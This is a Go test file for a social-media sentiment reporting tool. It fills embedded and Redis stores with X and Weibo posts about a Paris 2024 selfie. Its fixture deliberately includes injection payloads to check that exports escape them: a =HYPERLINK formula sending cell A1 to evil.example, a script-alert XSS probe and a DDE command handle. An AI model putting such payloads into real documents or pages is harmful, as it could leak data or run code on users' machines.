package report_test

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/chorus-news/chorus"
	"github.com/chorus-news/chorus/store/embedded"
	"github.com/chorus-news/chorus/store/redis"
	"github.com/chorus-news/chorus/store/redis/redistest"
)

func TestMain(m *testing.M) { redistest.Run(m) }

// store is what the tests do with a store: fill it as the workers do, read
// it as a report does.
type store interface {
	CreateEvent(ctx context.Context, ev chorus.Event) (bool, error)
	Event(ctx context.Context, id string) (chorus.Event, error)
	Submit(ctx context.Context, event string, posts []chorus.Post) (chorus.SubmitResult, error)
	Read(ctx context.Context, consumer string, max int, block time.Duration) ([]chorus.Entry, error)
	Tally(ctx context.Context, items []chorus.Entry) (int, error)
	Summary(ctx context.Context, event string, platform chorus.Platform) (chorus.Summary, error)
	Timeline(ctx context.Context, event string, b chorus.Bucket, platform chorus.Platform) ([]chorus.Point, error)
	Posts(ctx context.Context, event string, q chorus.PostQuery) (chorus.PostPage, error)
	FoldReposts(ctx context.Context, event string, posts []chorus.Post) (chorus.SubmitResult, error)
	Correct(ctx context.Context, event string, platform chorus.Platform, id string, label chorus.Label, note string) (chorus.Post, error)
}

// stores runs fn against a fresh embedded store and a fresh database on a
// real redis-server.
func stores(t *testing.T, fn func(t *testing.T, s store)) {
	t.Run("embedded", func(t *testing.T) {
		s, err := embedded.Open(t.TempDir(), embedded.Options{})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { s.Close() })
		fn(t, s)
	})
	t.Run("redis", func(t *testing.T) {
		s, err := redis.Open(context.Background(), redistest.URL(t), redis.Options{})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { s.Close() })
		fn(t, s)
	})
}

const eventID = "paris-selfie"

var t0 = time.Date(2024, 7, 31, 19, 0, 0, 0, time.UTC)

// hostile is post text that must stay text in every format.
const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> & "quotes"`

// fixture is the report tests' event: both platforms, English, Chinese
// and an unscored language, hostile text, a corrected label.
func fixture() ([]chorus.Post, map[string]chorus.Sentiment) {
	type row struct {
		pl     chorus.Platform
		id     string
		lang   string
		text   string
		label  chorus.Label
		score  float64
		min    int
		likes  int64
		handle string
	}
	rows := []row{
		{chorus.X, "1818700000000000001", "en", "This is the true Olympic spirit!", chorus.Positive, 0.91, 5, 120, "someone"},
		{chorus.X, "1818700000000000002", "en", hostile, chorus.Negative, -0.62, 12, 3, "=cmd|' /C calc'!A0"},
		{chorus.X, "1818700000000000003", "en", "+1 to that, a selfie for peace", chorus.Positive, 0.55, 20, 40, "@mention"},
		{chorus.X, "1818700000000000004", "ja", "素晴らしい瞬間でした", chorus.Unscored, 0, 31, 7, "tokyo_fan"},
		{chorus.X, "1818700000000000005", "en", "-5 points for the photo angle\nsecond line, with \"quotes\"", chorus.Neutral, 0.02, 44, 0, "critic"},
		{chorus.Weibo, "5063000000000001", "zh", "这是真正的奥林匹克精神！韩国和朝鲜选手一起自拍 [心]", chorus.Positive, 0.88, 50, 900, "体育小编"},
		{chorus.Weibo, "5063000000000002", "zh", "政治作秀而已，没什么好感动的", chorus.Negative, -0.71, 75, 60, "冷眼旁观"},
		{chorus.Weibo, "5063000000000003", "zh", "三星手机的广告做得真好", chorus.Neutral, 0.05, 95, 15, "数码控"},
		{chorus.Weibo, "5063000000000004", "zh", "@奥运会 这张照片会载入史册 \t<b>粗体</b>", chorus.Positive, 0.77, 130, 300, "历史爱好者"},
	}
	var posts []chorus.Post
	sents := map[string]chorus.Sentiment{}
	for _, r := range rows {
		p := chorus.Post{
			Platform: r.pl, ID: r.id, Event: eventID, Lang: r.lang, Text: r.text,
			CreatedAt: t0.Add(time.Duration(r.min) * time.Minute),
			Author:    chorus.Author{ID: "u" + r.id[len(r.id)-3:], Handle: r.handle, Name: "Name " + r.handle, Followers: 10 * r.likes},
			Metrics:   chorus.Metrics{Likes: r.likes, Reposts: r.likes / 10, Replies: 1, Quotes: 0},
			Source:    "test",
		}
		if r.pl == chorus.X {
			p.URL = "https://x.com/" + r.handle + "/status/" + r.id
		} else {
			p.URL = "https://weibo.com/" + r.id
		}
		posts = append(posts, p)
		s := chorus.Sentiment{Label: r.label, Score: r.score, Confidence: 0.8}
		switch {
		case r.label == chorus.Unscored:
		case r.lang == "zh":
			s.Model = "zh-linear/2"
		default:
			s.Model = "en-linear/2"
		}
		sents[p.Key()] = s
	}
	return posts, sents
}

// fill creates the event, submits posts and tallies them with the given
// sentiments, as the workers would.
func fill(t testing.TB, s store, posts []chorus.Post, sents map[string]chorus.Sentiment) {
	t.Helper()
	ctx := context.Background()
	ev := chorus.Event{ID: eventID, Title: "Paris 2024: the podium selfie <3", QueryX: "selfie", Start: t0, End: t0.Add(24 * time.Hour), CreatedAt: t0}
	if _, err := s.CreateEvent(ctx, ev); err != nil {
		t.Fatal(err)
	}
	for len(posts) > 0 {
		n := min(len(posts), 5000)
		if _, err := s.Submit(ctx, eventID, posts[:n]); err != nil {
			t.Fatal(err)
		}
		posts = posts[n:]
		for {
			entries, err := s.Read(ctx, "test", 1000, 10*time.Millisecond)
			if err != nil {
				t.Fatal(err)
			}
			if len(entries) == 0 {
				break
			}
			for i := range entries {
				sent, ok := sents[entries[i].Post.Key()]
				if !ok {
					t.Fatalf("no sentiment for %s", entries[i].Post.Key())
				}
				entries[i].Post.Sentiment = &sent
			}
			if _, err := s.Tally(ctx, entries); err != nil {
				t.Fatal(err)
			}
		}
	}
}

// filled is the fixture in s, with one label corrected by hand.
func filled(t testing.TB, s store) {
	t.Helper()
	posts, sents := fixture()
	fill(t, s, posts, sents)
	if _, err := s.Correct(context.Background(), eventID, chorus.Weibo, "5063000000000003", chorus.Positive, "an ad, but praised: <i>positive</i>"); err != nil {
		t.Fatal(err)
	}
	reposts := []chorus.Post{
		{Platform: chorus.X, ID: "1818700000000000901", Event: eventID, RepostOf: "1818700000000000001", CreatedAt: t0.Add(6 * time.Minute)},
		{Platform: chorus.Weibo, ID: "5063000000000901", Event: eventID, RepostOf: "5063000000000001", CreatedAt: t0.Add(51 * time.Minute)},
		{Platform: chorus.Weibo, ID: "5063000000000902", Event: eventID, RepostOf: "5063000000000001", CreatedAt: t0.Add(52 * time.Minute)},
	}
	if _, err := s.FoldReposts(context.Background(), eventID, reposts); err != nil {
		t.Fatal(err)
	}
}

// many makes n posts over a few days, alternating platforms and labels.
func many(n int) ([]chorus.Post, map[string]chorus.Sentiment) {
	labels := []chorus.Label{chorus.Positive, chorus.Neutral, chorus.Negative, chorus.Unscored}
	posts := make([]chorus.Post, n)
	sents := map[string]chorus.Sentiment{}
	for i := range posts {
		pl := chorus.Platforms[i%2]
		p := chorus.Post{
			Platform: pl, ID: fmt.Sprintf("%d", 100000+i), Event: eventID, Lang: "zh",
			Text:      fmt.Sprintf("第%d条 post number %d =SUM(A1:A9)", i, i),
			CreatedAt: t0.Add(time.Duration(i) * 7 * time.Second),
			Metrics:   chorus.Metrics{Likes: int64(i % 97)},
		}
		posts[i] = p
		l := labels[i%len(labels)]
		s := chorus.Sentiment{Label: l, Score: 0.5, Confidence: 0.7, Model: "zh-linear/2"}
		if l == chorus.Unscored {
			s.Model = ""
		}
		sents[p.Key()] = s
	}
	return posts, sents
}
